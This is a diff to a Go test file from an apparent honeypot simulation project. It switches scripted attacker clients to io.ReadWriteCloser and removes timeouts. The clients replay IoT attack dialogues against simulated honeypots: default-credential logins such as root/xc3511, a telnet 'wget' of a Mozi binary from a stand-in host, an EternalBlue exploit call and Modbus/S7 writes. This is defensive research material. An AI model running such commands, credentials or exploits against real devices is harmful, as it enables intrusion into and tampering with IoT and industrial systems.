@@ -11,7 +11,6 @@ import (
 	"context"
 	"errors"
 	"io"
-	"net"
 	"reflect"
 	"runtime"
 	"sync"
@@ -33,8 +32,6 @@ import (
 	"openhire/internal/protocols/xmpp"
 )
 
-const clientTimeout = time.Second
-
 // streamCase is one of the ten stream servers the profiles deploy, the real
 // client dialogue its transcript is recorded from, and the most unparsed
 // input its stepper may carry between events.
@@ -43,7 +40,7 @@ type streamCase struct {
 	pot       string // profile that hosts it
 	port      uint16
 	tailBound int
-	client    func(conn net.Conn)
+	client    func(conn io.ReadWriteCloser)
 }
 
 var streamCases = []streamCase{
@@ -51,21 +48,21 @@ var streamCases = []streamCase{
 	// for a whole packet, so 1 MiB (the MQTT packet cap) covers both. SSH
 	// holds at most one line and HTTP one request head, both capped at
 	// netsim.MaxLine; the transcript's request bodies are shorter than that.
-	{iot.ProtoTelnet, "Cowrie", 23, 1 << 20, func(conn net.Conn) {
+	{iot.ProtoTelnet, "Cowrie", 23, 1 << 20, func(conn io.ReadWriteCloser) {
 		ctx := context.Background()
-		if ok, _ := telnet.Login(ctx, conn, "root", "xc3511", clientTimeout); ok {
-			_, _ = telnet.Exec(conn, "wget http://198.51.100.9/mozi.arm7", clientTimeout)
-			_, _ = telnet.Exec(conn, "exit", clientTimeout)
+		if ok, _ := telnet.Login(ctx, conn, "root", "xc3511"); ok {
+			_, _ = telnet.Exec(conn, "wget http://198.51.100.9/mozi.arm7")
+			_, _ = telnet.Exec(conn, "exit")
 		}
 	}},
-	{iot.ProtoSSH, "Cowrie", 22, netsim.MaxLine, func(conn net.Conn) {
-		_, _ = ssh.GrabBanner(conn, clientTimeout)
-		if ok, _ := ssh.Login(conn, "SSH-2.0-libssh", "root", "admin", clientTimeout); ok {
+	{iot.ProtoSSH, "Cowrie", 22, netsim.MaxLine, func(conn io.ReadWriteCloser) {
+		_, _ = ssh.GrabBanner(conn)
+		if ok, _ := ssh.Login(conn, "SSH-2.0-libssh", "root", "admin"); ok {
 			_, _ = conn.Write([]byte("uname -a\nexit\n"))
 		}
 	}},
-	{iot.ProtoMQTT, "HosTaGe", 1883, 1 << 20, func(conn net.Conn) {
-		c := mqtt.NewClient(conn, clientTimeout)
+	{iot.ProtoMQTT, "HosTaGe", 1883, 1 << 20, func(conn io.ReadWriteCloser) {
+		c := mqtt.NewClient(conn)
 		if _, err := c.Connect("c-c6336414", "", ""); err != nil {
 			return
 		}
@@ -73,13 +70,13 @@ var streamCases = []streamCase{
 		_ = c.Publish("arduino/sensors/smoke", []byte("0xdeadbeef"), true)
 		_ = c.Disconnect()
 	}},
-	{iot.ProtoHTTP, "HosTaGe", 80, netsim.MaxLine, func(conn net.Conn) {
-		_, _ = httpx.Get(conn, "/", clientTimeout)
-		_, _ = httpx.Post(conn, "/doLogin", map[string]string{"username": "admin", "password": "admin"}, clientTimeout)
-		_, _ = httpx.Do(conn, "POST", "/upload.php", bytes.Repeat([]byte("MZ"), 300), clientTimeout)
+	{iot.ProtoHTTP, "HosTaGe", 80, netsim.MaxLine, func(conn io.ReadWriteCloser) {
+		_, _ = httpx.Get(conn, "/")
+		_, _ = httpx.Post(conn, "/doLogin", map[string]string{"username": "admin", "password": "admin"})
+		_, _ = httpx.Do(conn, "POST", "/upload.php", bytes.Repeat([]byte("MZ"), 300))
 	}},
-	{iot.ProtoAMQP, "HosTaGe", 5672, 8 + 1<<20, func(conn net.Conn) {
-		sess, ok, err := amqp.Connect(conn, "PLAIN", "", "", clientTimeout)
+	{iot.ProtoAMQP, "HosTaGe", 5672, 8 + 1<<20, func(conn io.ReadWriteCloser) {
+		sess, ok, err := amqp.Connect(conn, "PLAIN", "", "")
 		if err != nil || !ok {
 			return
 		}
@@ -87,42 +84,42 @@ var streamCases = []streamCase{
 		_ = sess.Publish("amq.fanout", "flood", make([]byte, 512))
 		_ = sess.Close()
 	}},
-	{iot.ProtoXMPP, "ThingPot", 5222, 64 << 10, func(conn net.Conn) {
-		if _, _, err := xmpp.ProbeBanner(conn, "philips-hue.local", clientTimeout); err != nil {
+	{iot.ProtoXMPP, "ThingPot", 5222, 64 << 10, func(conn io.ReadWriteCloser) {
+		if _, _, err := xmpp.ProbeBanner(conn, "philips-hue.local"); err != nil {
 			return
 		}
-		_, _ = xmpp.Authenticate(conn, "PLAIN", "admin", "admin", clientTimeout)
-		if ok, _ := xmpp.Authenticate(conn, "ANONYMOUS", "", "", clientTimeout); ok {
-			_, _ = xmpp.SendStanza(conn, `<iq type='set'><lights state='off'/></iq>`, clientTimeout)
+		_, _ = xmpp.Authenticate(conn, "PLAIN", "admin", "admin")
+		if ok, _ := xmpp.Authenticate(conn, "ANONYMOUS", "", ""); ok {
+			_, _ = xmpp.SendStanza(conn, `<iq type='set'><lights state='off'/></iq>`)
 			_, _ = conn.Write([]byte("</stream:stream>"))
 		}
 	}},
-	{iot.ProtoFTP, "Dionaea", 21, 8 << 10, func(conn net.Conn) {
+	{iot.ProtoFTP, "Dionaea", 21, 8 << 10, func(conn io.ReadWriteCloser) {
 		c := ftp.NewClient(conn)
-		if _, err := c.ReadReply(clientTimeout); err != nil {
+		if _, err := c.ReadReply(); err != nil {
 			return
 		}
-		if ok, _ := c.Login("anonymous", "bot@", clientTimeout); ok {
-			_, _ = c.Store("mozi.arm7.bin", []byte("\x7fELF mozi-sample-bytes\r\nwith a line break"), clientTimeout)
+		if ok, _ := c.Login("anonymous", "bot@"); ok {
+			_, _ = c.Store("mozi.arm7.bin", []byte("\x7fELF mozi-sample-bytes\r\nwith a line break"))
 		}
-		c.Quit(clientTimeout)
+		c.Quit()
 	}},
-	{iot.ProtoSMB, "HosTaGe", 445, 4 + 512<<10, func(conn net.Conn) {
-		_, _ = smb.Probe(conn, clientTimeout)
+	{iot.ProtoSMB, "HosTaGe", 445, 4 + 512<<10, func(conn io.ReadWriteCloser) {
+		_, _ = smb.Probe(conn)
 		_, _ = conn.Write(smb.BuildExploit(smb.KindEternalBlue, []byte("MZ wannacry-dropper")))
-		_, _ = smb.Probe(conn, clientTimeout)
+		_, _ = smb.Probe(conn)
 	}},
-	{iot.ProtoModbus, "Conpot", 502, 262, func(conn net.Conn) {
-		_ = modbus.WriteSingle(conn, 3, 999, clientTimeout)
+	{iot.ProtoModbus, "Conpot", 502, 262, func(conn io.ReadWriteCloser) {
+		_ = modbus.WriteSingle(conn, 3, 999)
 		_, _ = conn.Write(modbus.BuildRequest(1, 1, 0x63, []byte{0, 0}))
-		_, _ = modbus.ReadHolding(conn, 0, 4, clientTimeout)
+		_, _ = modbus.ReadHolding(conn, 0, 4)
 	}},
-	{iot.ProtoS7, "Conpot", 102, 8192, func(conn net.Conn) {
-		if err := s7.Connect(conn, clientTimeout); err != nil {
+	{iot.ProtoS7, "Conpot", 102, 8192, func(conn io.ReadWriteCloser) {
+		if err := s7.Connect(conn); err != nil {
 			return
 		}
 		_, _ = conn.Write(s7.BuildJob(s7.FuncWrite))
-		_, _ = s7.ReadModule(conn, clientTimeout)
+		_, _ = s7.ReadModule(conn)
 	}},
 }
 
@@ -201,13 +198,13 @@ func openSession(tb testing.TB, c streamCase) *session {
 
 // recordingConn keeps a copy of every client write.
 type recordingConn struct {
-	net.Conn
+	io.ReadWriteCloser
 	writes [][]byte
 }
 
 func (r *recordingConn) Write(p []byte) (int, error) {
 	r.writes = append(r.writes, append([]byte(nil), p...))
-	return r.Conn.Write(p)
+	return r.ReadWriteCloser.Write(p)
 }
 
 // transcripts records each case's client writes once, by running the real
@@ -217,7 +214,7 @@ func transcripts(tb testing.TB) [][][]byte {
 		recorded = make([][][]byte, len(streamCases))
 		for i, c := range streamCases {
 			s := openSession(tb, c)
-			rc := &recordingConn{Conn: s.conn}
+			rc := &recordingConn{ReadWriteCloser: s.conn}
 			c.client(rc)
 			_ = s.conn.Close()
 			recorded[i] = rc.writes
@@ -248,19 +245,13 @@ func replay(tb testing.TB, c streamCase, chunks [][]byte) replayResult {
 			break // the server ended the session
 		}
 	}
-	_ = s.conn.SetReadDeadline(time.Now().Add(clientTimeout))
 	output, err := io.ReadAll(s.conn)
-	if err != nil && !errors.Is(err, io.EOF) && !isTimeout(err) {
+	if err != nil && !errors.Is(err, netsim.ErrWouldBlock) {
 		tb.Fatalf("%s: reading server output: %v", c.proto, err)
 	}
 	_ = s.conn.Close()
 	s.n.Quiesce()
 	return replayResult{output: output, events: s.log.Events(), maxTail: s.probe.maxTail}
-}
-
-func isTimeout(err error) bool {
-	var ne net.Error
-	return errors.As(err, &ne) && ne.Timeout()
 }
 
 // splitBy cuts raw at sizes drawn from splits (1..64 bytes each, cycling);
@@ -385,7 +376,7 @@ func TestNoGoroutinePerConversation(t *testing.T) {
 	type target struct {
 		name    string
 		handler netsim.StreamHandler
-		client  func(conn net.Conn)
+		client  func(conn io.ReadWriteCloser)
 	}
 	var targets []target
 	pots, _ := DeployAll(netsim.NewNetwork(netsim.NewSimClock(netsim.ExperimentStart)),
@@ -415,9 +406,9 @@ func TestNoGoroutinePerConversation(t *testing.T) {
 		t.Fatal("universe has no TR-069 CPE or no wild honeypot")
 	}
 	targets = append(targets,
-		target{"tr069", cpe, func(conn net.Conn) { _, _ = tr069.Probe(conn, clientTimeout) }},
-		target{"wild-honeypot", wild, func(conn net.Conn) {
-			_, _ = telnet.Grab(context.Background(), conn, clientTimeout)
+		target{"tr069", cpe, func(conn io.ReadWriteCloser) { _, _ = tr069.Probe(conn) }},
+		target{"wild-honeypot", wild, func(conn io.ReadWriteCloser) {
+			_, _ = telnet.Grab(context.Background(), conn)
 			_, _ = conn.Write([]byte("root\r\n"))
 		}},
 	)
